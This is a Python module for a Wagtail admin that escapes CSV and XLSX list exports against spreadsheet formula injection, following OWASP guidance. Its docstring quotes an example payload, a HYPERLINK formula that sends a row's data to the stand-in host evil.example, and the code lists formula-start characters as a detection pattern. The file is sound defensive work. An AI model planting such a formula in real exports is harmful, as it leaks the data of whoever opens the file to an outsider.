"""Spreadsheet exports of the admin lists (CSV and XLSX) that a spreadsheet program cannot run.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab, carriage return or line feed,
which some programs skip before one of those) is a formula to Excel and LibreOffice:
a participant called ``=HYPERLINK("https://evil.example/?"&A2;"Klick")`` would send the
row of whoever opens the export to a stranger. Following OWASP ("CSV Injection"), such
CSV cells get a leading single quote; XLSX cells are written as strings, never as formulas.

Every WorkPro list view with an export uses `SafeSpreadsheetExportMixin`: the modeladmin
registration wraps each index view with `with_safe_export`, and a test walks every admin
URL so that a list added later cannot export without it.
"""

from __future__ import annotations

import re

from wagtail.admin.views.mixins import SpreadsheetExportMixin

# The characters a spreadsheet program takes as the start of a formula, and those it skips
# before them; the full-width forms are read as formulas by some programs too.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
# Harmless although they start with "-": the list's placeholder for an empty value and a plain number.
PLAIN = re.compile(r"-|-?[0-9]+(?:[.,][0-9]+)?")


def escape_formula(value):
    """A text cell that would start a formula gets a leading single quote; anything else is kept."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not PLAIN.fullmatch(value):
        return "'" + value
    return value


class SafeSpreadsheetExportMixin(SpreadsheetExportMixin):
    """Put in front of a list view's base classes: CSV cells escaped, XLSX cells never formulas."""

    def preprocess_field_value(self, field, value, export_format):
        value = super().preprocess_field_value(field, value, export_format)
        if export_format == self.FORMAT_CSV:
            return escape_formula(value)
        return value

    def generate_xlsx_row(self, worksheet, row_dict, date_format=None):
        for cell in super().generate_xlsx_row(worksheet, row_dict, date_format=date_format):
            if isinstance(cell.value, str):
                cell.data_type = "s"  # openpyxl stores a text starting with "=" as a formula
            yield cell


def with_safe_export(view_class):
    """`view_class` if it already escapes its exports, else a subclass that does."""
    if issubclass(view_class, SafeSpreadsheetExportMixin):
        return view_class
    name = f"SafeExport{view_class.__name__}"
    return type(name, (SafeSpreadsheetExportMixin, view_class),
                {"__module__": __name__, "__qualname__": name, "__doc__": view_class.__doc__})
